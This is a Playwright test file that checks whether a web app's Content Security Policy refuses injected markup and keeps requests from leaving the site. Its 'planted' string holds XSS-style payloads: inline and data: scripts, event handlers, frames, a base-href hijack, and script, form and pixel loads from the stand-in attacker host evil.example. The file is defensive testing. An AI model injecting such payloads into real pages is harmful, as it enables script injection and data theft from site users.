import type { Page, Request } from '@playwright/test'
import { paths } from '@/lib/contract/paths'
import { expect, test } from '../support/browser'
import { signedIn } from '../support/browser-account'

/** What an attacker who got markup into a page would plant there. Each would leave a mark on the window. */
const planted = `
  <script>window.marks.push('inline script')</script>
  <script nonce="">window.marks.push('empty nonce')</script>
  <script nonce="bm9uY2U=">window.marks.push('guessed nonce')</script>
  <script src="data:text/javascript,window.marks.push('data script')"></script>
  <script src="https://evil.example/x.js"></script>
  <script type="module">window.marks.push('module')</script>
  <img src="/nowhere.png" onerror="window.marks.push('handler')">
  <svg onload="window.marks.push('svg')"></svg>
  <iframe srcdoc="<script>parent.marks.push('frame')</script>"></iframe>
  <object data="data:text/html,<script>parent.marks.push('object')</script>"></object>
  <base href="https://evil.example/">
  <form action="https://evil.example/" id="planted-form"><input name="x" value="1"></form>
  <img src="https://evil.example/pixel.png">
`

type Marked = { marks: string[]; violations: string[] }

async function watch(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const marked = Object.assign(window, { marks: [] as string[], violations: [] as string[] })
    addEventListener('securitypolicyviolation', (event) => {
      marked.violations.push(`${event.effectiveDirective} ${event.blockedURI}`)
    })
  })
}

const found = (page: Page) =>
  page.evaluate(() => {
    const { marks, violations } = window as unknown as Marked
    return { marks, violations }
  })

test('what is planted in a page does not run, and nothing leaves the site', async ({ page, tolerate }) => {
  // Chromium tells the console of all that it refuses.
  tolerate(/Content Security Policy|violates|Refused|404|ERR_/)
  await signedIn(page)
  await watch(page)
  const foreign: string[] = []
  // Those that the policy stops are told of too, as failed by it.
  const note = (request: Request) => {
    const isForeign = new URL(request.url()).hostname === 'evil.example'
    if (isForeign && request.failure()?.errorText !== 'csp') foreign.push(request.url())
  }
  page.on('requestfinished', note)
  page.on('requestfailed', note)
  await page.route('**/dashboard', async (route) => {
    const answer = await route.fetch()
    const body = (await answer.text()).replace('</body>', `${planted}</body>`)
    await route.fulfill({ response: answer, body })
  })
  await page.goto(paths.dashboard)
  await page.evaluate(() => {
    const form = document.getElementById('planted-form')
    if (form instanceof HTMLFormElement) form.submit()
  })
  await expect.poll(async () => (await found(page)).violations.length).toBeGreaterThan(5)
  const { marks, violations } = await found(page)
  expect(marks).toEqual([])
  expect(violations.join('\n')).toMatch(/script-src-elem inline/)
  expect(violations.join('\n')).toMatch(/script-src-attr/)
  expect(foreign).toEqual([])
  expect(new URL(page.url()).pathname).toBe(paths.dashboard)
  process.stdout.write(`CSP: ${violations.length} planted things refused, 0 ran, 0 requests left the site\n`)
})

test('no screen of the app breaks its own policy', async ({ page }) => {
  await watch(page)
  const link = `${paths.reset}/a-token`
  const open = [paths.landing, paths.signup, paths.login, paths.recover, link, paths.privacy, paths.safety]
  for (const path of open) await expectNoViolation(page, path)
  await signedIn(page)
  const guarded = Object.values(paths).filter((path) => path !== paths.reset && !open.includes(path))
  for (const path of guarded) await expectNoViolation(page, path)
})

test('the check of a form breaks no policy', async ({ page }) => {
  await watch(page)
  await page.goto(paths.signup)
  await page.getByRole('button', { name: 'Create account' }).click()
  await expect(page.locator('[aria-invalid=true]').first()).toBeVisible()
  expect((await found(page)).violations).toEqual([])
})

async function expectNoViolation(page: Page, path: string): Promise<void> {
  const answer = await page.goto(path)
  expect(answer?.headers()['content-security-policy'], path).toContain("'strict-dynamic'")
  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1)
  expect((await found(page)).violations, path).toEqual([])
}
